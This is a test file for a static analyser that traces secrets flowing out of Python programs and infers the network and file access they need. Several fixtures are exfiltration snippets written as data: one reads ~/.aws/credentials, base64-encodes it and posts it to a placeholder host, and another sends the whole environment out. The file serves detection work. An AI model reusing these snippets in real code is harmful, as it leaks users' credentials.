import { describe, expect, it } from "vitest";
import { scanOf } from "../samples.ts";

function flowsOf(files: Readonly<Record<string, string>>) {
  return scanOf(files, "imported").findings.filter((one) => one.ruleId === "secret-flow");
}

describe("private data on its way out", () => {
  it("is followed through names, functions and encodings, with the steps", () => {
    const code = [
      "import base64, json, requests",
      "from pathlib import Path",
      "",
      "def load():",
      "    return (Path.home() / '.aws' / 'credentials').read_text()",
      "",
      "def wrap(value):",
      "    return base64.b64encode(json.dumps({'v': value}).encode()).decode()",
      "",
      "secret = load()",
      "body = wrap(secret)",
      "requests.post('https://example.invalid/', data=body)",
    ].join("\n");
    const [flow, more] = flowsOf({ "scripts/a.py": code });
    expect(more).toBeUndefined();
    expect(flow?.range.startLine).toBe(12);
    expect(flow?.message).toContain(".aws/credentials");
    expect(flow?.flow[0]?.range?.startLine).toBe(5);
    expect(flow?.flow.at(-1)?.range?.startLine).toBe(12);
  });

  it("is found when one file reads and another sends", () => {
    const read = "import os\n\ndef collect():\n    return {k: v for k, v in os.environ.items()}\n";
    const send = "import requests\n\ndef report(payload):\n    requests.post('https://example.invalid/', json=payload)\n";
    const main = "from reader import collect\nfrom sender import report\nreport(collect())\n";
    const found = flowsOf({ "reader.py": read, "sender.py": send, "main.py": main });
    expect(found.map((one) => one.file)).toEqual(["sender.py"]);
  });

  const quiet: readonly (readonly [string, string])[] = [
    ["one key for one service", "import os, requests\nrequests.get('https://api.example.com', headers={'X-Key': os.environ['EXAMPLE_KEY']})"],
    ["an environment that is inherited", "import os, subprocess\nsubprocess.run(['git', 'status'], env={**os.environ, 'LANG': 'C'})"],
    ["a file that is no secret", "import requests\nrequests.post('https://api.example.com', data=open('report.csv').read())"],
    ["its own settings file", "import json, requests\nkey = json.load(open('config.json'))['key']\nrequests.post('https://api.example.com', json={'k': key})"],
    ["the length of a secret", "from pathlib import Path\nprint(len((Path.home() / '.ssh' / 'config').read_text()))"],
  ];
  for (const [what, code] of quiet)
    it(`is not ${what}`, () => {
      expect(flowsOf({ "scripts/a.py": code })).toEqual([]);
    });
});

describe("what a program reaches by itself", () => {
  const needs = (code: string): readonly string[] => scanOf({ "scripts/a.py": code }, "imported").permissions.required.map((one) => one.permission);

  it("is the machine that a handler of logs sends to", () => {
    expect(needs("import logging.handlers\nlogging.handlers.HTTPHandler('a.example.net:8080', '/in')")).toContain("network:a.example.net");
    expect(needs("import logging.handlers\nlogging.handlers.SMTPHandler(mailhost='mx.example.net', fromaddr='a', toaddrs=['b'], subject='c')")).toContain(
      "network:mx.example.net",
    );
    expect(needs("import logging.handlers\nlogging.handlers.SysLogHandler(('a.example.net', 514))")).toContain("network:*");
    expect(needs("import logging.handlers\nlogging.handlers.SysLogHandler('/dev/log')").filter((one) => one.startsWith("network"))).toEqual([]);
    expect(needs("import logging.handlers\nlogging.handlers.RotatingFileHandler('a.log')").filter((one) => one.startsWith("network"))).toEqual([]);
  });

  it("is the file of logins that netrc finds", () => {
    expect(needs("import netrc\nprint(netrc.netrc().hosts)")).toContain("filesystem.read:~/.netrc");
    expect(needs("import netrc\nprint(netrc.netrc('a.txt').hosts)")).not.toContain("filesystem.read:~/.netrc");
  });
});

describe("files that import nothing of each other", () => {
  const test =
    "import os, subprocess\n\ndef run(env):\n    return subprocess.run(['git', 'status'], env=env)\n\nENV = dict(os.environ)\nENV['A'] = '1'\nprint(run(ENV))\n";
  const sender = "import json, requests\n\ndef call(body):\n    requests.post('https://api.example.net', data=json.dumps(body).encode())\n";

  it("hand each other nothing", () => {
    expect(flowsOf({ "tests/test_a.py": test, "scripts/a.py": sender })).toEqual([]);
  });

  it("do when one imports the other", () => {
    expect(flowsOf({ "tests/test_a.py": `from scripts import a\n${test}a.call(ENV)\n`, "scripts/a.py": sender })).not.toEqual([]);
    expect(flowsOf({ "tests/test_a.py": `from ..scripts.a import call\n${test}call(ENV)\n`, "scripts/a.py": sender })).not.toEqual([]);
  });
});
